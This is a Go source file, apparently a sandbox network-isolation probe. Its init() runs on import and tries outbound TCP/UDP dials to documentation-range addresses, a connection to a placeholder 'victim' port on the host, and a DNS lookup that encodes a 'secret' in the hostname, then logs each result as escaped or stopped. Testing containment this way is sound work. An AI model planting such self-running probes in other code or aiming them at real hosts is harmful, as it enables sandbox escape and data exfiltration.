package PACKAGE_NAME

import (
	"context"
	"io"
	"log"
	"net"
	"time"
)

const victim = "VICTIM_PORT"

// Nothing is sent unless the loopback is all that there is. All addresses and names are those kept for documentation.
func init() {
	interfaces, err := net.Interfaces()
	if err != nil || len(interfaces) != 1 || interfaces[0].Flags&net.FlagLoopback == 0 {
		log.Printf("not tried: the interfaces are %v, %v", interfaces, err)
		return
	}
	for _, address := range []string{"192.0.2.1:80", "198.51.100.7:443", "203.0.113.9:53", "[2001:db8::1]:80"} {
		dial("tcp", address)
		dial("udp", address)
	}
	for _, host := range []string{"127.0.0.1", "::1"} {
		conn, err := net.DialTimeout("tcp", net.JoinHostPort(host, victim), time.Second)
		if err != nil {
			log.Printf("stopped: the host's port: %v", err)
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(time.Second))
		words, _ := io.ReadAll(io.LimitReader(conn, 100))
		log.Printf("ESCAPED: the host's port says %q", words)
		_ = conn.Close()
	}
	ask("the system's resolver", &net.Resolver{})
	ask("Go's resolver", &net.Resolver{PreferGo: true})
	ask("a resolver outside", &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, "192.0.2.53:53")
	}})
}

func dial(network, address string) {
	conn, err := net.DialTimeout(network, address, time.Second)
	if err == nil {
		_, err = conn.Write([]byte("hello"))
		_ = conn.Close()
	}
	if err == nil {
		log.Printf("ESCAPED: %s %s", network, address)
		return
	}
	log.Printf("stopped: %s %s: %v", network, address, err)
}

func ask(what string, resolver *net.Resolver) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	found, err := resolver.LookupHost(ctx, "secret-in-a-name.example.com")
	if err == nil {
		log.Printf("ESCAPED: %s found %v", what, found)
		return
	}
	log.Printf("stopped: %s: %v", what, err)
}
